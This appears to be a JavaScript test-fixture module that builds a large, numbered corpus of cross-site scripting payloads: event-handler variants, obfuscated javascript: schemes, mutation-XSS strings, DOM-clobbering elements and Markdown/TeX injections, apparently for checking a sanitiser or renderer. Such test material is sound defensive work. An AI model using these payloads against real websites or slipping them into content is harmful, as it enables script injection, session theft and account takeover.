/**
 * Attack vectors by kind: every element with every way to run something, every spelling of every scheme, what changes
 * its meaning when it is parsed twice, what Markdown reads. `RUN` stands for the script; {@link vectors} puts one in
 * that tells which vector has run.
 */

/** Elements that carry handlers, with what makes the handler fire by itself where there is such a thing. */
const ELEMENTS = {
  img: "src=x: alt=a", svg: "", math: "", body: "", video: "src=x:", audio: "src=x:", input: "autofocus", button: "autofocus", textarea: "autofocus",
  select: "autofocus", details: "open", iframe: "src=about:blank", object: "data=x:", embed: "src=x:", marquee: "", p: "tabindex=0 autofocus", a: "href=# autofocus",
  div: "contenteditable autofocus", form: "", style: "", link: "rel=stylesheet href=x:", table: "background=x:", td: "", isindex: "", keygen: "autofocus", x: "tabindex=0 autofocus",
  "custom-element": "tabindex=0", source: "src=x:", track: "default src=x:", picture: "", dialog: "open", figure: "", blockquote: "", pre: "", code: "", abbr: "title=x", time: "datetime=2024-01-01",
};

const HANDLERS = [
  "onerror", "onload", "onfocus", "onclick", "onmouseover", "ontoggle", "onpointerenter", "onanimationstart", "onbegin", "onstart", "onloadstart",
  "onbeforetoggle", "onscroll", "onpageshow", "onhashchange", "onauxclick", "oncopy", "onfocusin", "onwheel",
];

/** How an attribute is written. */
const WRITTEN = [
  /** @param {string} name @param {string} value */ (name, value) => ` ${name}=${value}`,
  /** @param {string} name @param {string} value */ (name, value) => `/${name.toUpperCase()}="${value}"`,
  /** @param {string} name @param {string} value */ (name, value) => `\t${name}\n=\f'${value}'`,
];

/** Spellings of a scheme that some parser takes for it. */
const SCHEMES = [
  "javascript:RUN", "JaVaScRiPt:RUN", " javascript:RUN", "java\tscript:RUN", "java\nscript:RUN", "\u0001javascript:RUN", "javascript&colon;RUN",
  "&#106;avascript:RUN", "&#x6A&#x61vascript:RUN", "java&Tab;script:RUN", "java&NewLine;script:RUN", "javascript://%0aRUN", "vbscript:RUN", "data:text/html,<script>RUN</script>",
  "data:text/html;base64,PHNjcmlwdD50b3AuciYmdG9wLnIoMSk8L3NjcmlwdD4=", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>", "view-source:javascript:RUN", "feed:javascript:RUN",
  "blob:javascript:RUN", "javascript\\:RUN", "java%73cript:RUN", "\\\\javascript:RUN", "//javascript:RUN", "jar:javascript:RUN",
];

/** Where an address is. */
const PLACES = [
  '<a href="URL">link</a>', '<area shape=default href="URL">', '<form action="URL"><button>go</button></form>', '<button form=f formaction="URL">go</button>', '<iframe src="URL"></iframe>',
  '<object data="URL"></object>', '<embed src="URL">', '<img src="URL" alt=picture>', '<img srcset="URL 1x" alt=picture>', '<video poster="URL" controls src=x:></video>', '<audio controls src="URL"></audio>',
  '<base href="URL">', '<link rel=import href="URL">', '<meta http-equiv=refresh content="9999;url=URL">', '<svg width=80 height=40><a xlink:href="URL"><text y=20>drawn</text></a></svg>', '<svg><use href="URL"/></svg>',
  '<svg><image href="URL"/></svg>', '<svg><script href="URL"></script></svg>', '<math><mi href="URL">x</mi></math>', '<math><maction actiontype="statusline#URL" xlink:href="URL"><mi>x</mi><mi>y</mi></maction></math>',
  '<blockquote cite="URL">said</blockquote>', '<q cite="URL">said</q>', '<ins cite="URL">added</ins>', '<table background="URL"><tr><td>cell</td></tr></table>', '<body background="URL">',
  '<div style="background:url(URL)">styled</div>', '<a ping="URL" href="https://example.org/">pinged</a>', '<applet code="URL"></applet>', '<param name=movie value="URL">', '<input type=image src="URL">', '<frame src="URL">',
];

/** What means something else when it is parsed a second time, or somewhere else. */
const MUTATIONS = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=RUN&gt;">', '<svg></p><style><a id="</style><img src=x: onerror=RUN>">', '<noscript><p title="</noscript><img src=x: onerror=RUN>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=RUN>', '<svg><foreignObject><p><style><img src="</style><img src=x: onerror=RUN>">', '<template><img src=x: onerror=RUN></template>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x: onerror=RUN>">', '<title><p title="</title><img src=x: onerror=RUN>">', '<xmp><p title="</xmp><img src=x: onerror=RUN>">',
  '<textarea><p title="</textarea><img src=x: onerror=RUN>">', '<noembed><p title="</noembed><img src=x: onerror=RUN>">', '<iframe><p title="</iframe><img src=x: onerror=RUN>">', '<plaintext><img src=x: onerror=RUN>',
  '<math><annotation-xml encoding="text/html"><img src=x: onerror=RUN></annotation-xml></math>', '<math><annotation encoding="application/x-tex"><img src=x: onerror=RUN></annotation></math>', '<svg><desc><img src=x: onerror=RUN></desc></svg>',
  '<svg><title><img src=x: onerror=RUN></title></svg>', '<table><td><svg><style>&lt;img src=x: onerror=RUN&gt;</style></svg></td></table>', '<!--><img src=x: onerror=RUN>-->', '<![CDATA[<img src=x: onerror=RUN>]]>',
  '<svg><![CDATA[><img src=x: onerror=RUN>]]></svg>', '<?php <img src=x: onerror=RUN> ?>', '<div id="`"><img alt="`><img src=x: onerror=RUN>">', "<listing>&lt;img src=x: onerror=RUN&gt;</listing>", "<pre><code>&lt;img src=x: onerror=RUN&gt;</code></pre>",
  '<svg><animate attributeName=href values="javascript:RUN" /><set attributeName=onmouseover to=RUN /></svg>', '<iframe srcdoc="&lt;script&gt;RUN&lt;/script&gt;"></iframe>', '<script>RUN</script>', '<script src="data:text/javascript,RUN"></script>', '<style>@import "javascript:RUN";</style>',
  '<object data="data:text/html,&lt;script&gt;RUN&lt;/script&gt;"></object>', '<math><semantics><mi>x</mi><annotation encoding="application/x-tex">\\href{javascript:RUN}{x}</annotation></semantics></math>',
];

/** Names that hide what a script asks of the document. */
const CLOBBERS = ["body", "head", "documentElement", "createElement", "querySelector", "querySelectorAll", "getSelection", "cookie", "forms", "images", "location", "activeElement", "defaultView", "attributes", "children", "firstChild", "innerHTML", "parentNode", "nodeName", "__proto__", "constructor", "foreground-body", "foreground-title", "foreground_reader"];

/** What Markdown, TeX or what is written in either reads; the page shows all of it as text. */
const WRITINGS = [
  "<img src=x: onerror=RUN>", "\\<img src=x: onerror=RUN>", "&lt;img src=x: onerror=RUN&gt;", "&#60;img src=x: onerror=RUN&#62;", "<script>RUN</script>", "<javascript:RUN>", "<https://a.b/\"onmouseover=RUN//>", "[x](javascript:RUN)", "[x] (javascript:RUN)", "![x](javascript:RUN)",
  "[x](<javascript:RUN>)", "[x](java&#115;cript:RUN)", "[x]: javascript:RUN\n\n[x]", "[x][1]", "[1]: javascript:RUN", "[^1]: javascript:RUN", "](javascript:RUN)", "[a](https://a.b \"x\" onclick=RUN \")", "![a](https://a.b/c.png\"onerror=\"RUN)", "```\n<img src=x: onerror=RUN>\n```", "~~~\n</code><img src=x: onerror=RUN>",
  "`<img src=x: onerror=RUN>`", "``<img src=x: onerror=RUN>`", "`` ` <img src=x: onerror=RUN> ``", "\\`<img src=x: onerror=RUN>\\`", "    <img src=x: onerror=RUN>", "> <img src=x: onerror=RUN>", "- <img src=x: onerror=RUN>", "| a | <img src=x: onerror=RUN> |", "# <img src=x: onerror=RUN>", "<!-- --><img src=x: onerror=RUN>", "<b onclick=RUN>*x*</b>",
  "{: onclick=RUN }", "x {onclick=RUN}", "*x*{onclick=RUN}", "[x](y){onclick=RUN}", "{{constructor.constructor('RUN')()}}", "{% raw %}<img src=x: onerror=RUN>{% endraw %}", "$<img src=x: onerror=RUN>$", "$$<img src=x: onerror=RUN>$$", "$\\href{javascript:RUN}{x}$", "\\(<img src=x: onerror=RUN>\\)", "[[javascript:RUN]]", "[[x|javascript:RUN]]",
  "www.a.b\"onmouseover=RUN//", "https://a.b/<img src=x: onerror=RUN>", "a@b.c\"onmouseover=RUN", "---\n<img src=x: onerror=RUN>\n---", "</details><img src=x: onerror=RUN>", "</code></pre><img src=x: onerror=RUN>", "::: <img src=x: onerror=RUN>", ":smile\"onclick=RUN:", "*[x]: <img src=x: onerror=RUN>", "x\\\n<img src=x: onerror=RUN>", "<div markdown=1><img src=x: onerror=RUN></div>", "\\", "`", "\\`", "<", "&lt",
  "\u0002klzzwxh:0000\u0003<img src=x: onerror=RUN>", "¨K0K<img src=x: onerror=RUN>", "\u2028<img src=x: onerror=RUN>", "\u000b<img src=x: onerror=RUN>", "\u000c<script>RUN</script>", "<svg/onload=RUN>", "< img src=x: onerror=RUN>", "<\u0000img src=x: onerror=RUN>", "＜img src=x: onerror=RUN＞", "<img\u00a0src=x: onerror=RUN>", "<IMG \"\"\"><SCRIPT>RUN</SCRIPT>\">",
];

/**
 * Vectors in HTML, and such that are text.
 *
 * @typedef {{ html: string[], text: string[] }} Vectors
 */

/**
 * All vectors; each runs `run(number)`, with its own number, if it runs.
 *
 * @param {(number: number) => string} run
 * @returns {Vectors}
 */
export function vectors(run) {
  const handled = Object.entries(ELEMENTS).flatMap(([tag, rest]) =>
    HANDLERS.map((handler, at) => {
      const write = /** @type {(name: string, value: string) => string} */ (WRITTEN[at % WRITTEN.length]);
      return `<${tag} ${rest}${write(handler, "RUN")}>text</${tag}>`;
    }),
  );
  const addressed = PLACES.flatMap((place) => SCHEMES.map((scheme) => place.replaceAll("URL", scheme.replaceAll('"', "&quot;"))));
  const named = CLOBBERS.flatMap((name) => ["id", "name"].flatMap((key) => ["a", "form", "img", "input"].map((tag) => `<${tag} ${key}="${name}" alt=x src=x: onerror=RUN>x</${tag}>`)));
  const nested = MUTATIONS.flatMap((vector) => [vector, `<table><tr><td>${vector}</td></tr></table>`, `<ul><li>${vector}</li></ul>`, `<figure>${vector}<figcaption>${vector}</figcaption></figure>`, `<svg><foreignObject>${vector}</foreignObject></svg>`, `<details open><summary>s</summary>${vector}</details>`, `<math><mtext>${vector}</mtext></math>`]);
  let number = 0;
  const numbered = (/** @type {string} */ vector) => vector.replaceAll("RUN", run(number++));
  return {
    html: [...handled, ...addressed, ...nested, ...named].map(numbered),
    text: [...WRITINGS, ...MUTATIONS, ...SCHEMES].map(numbered),
  };
}
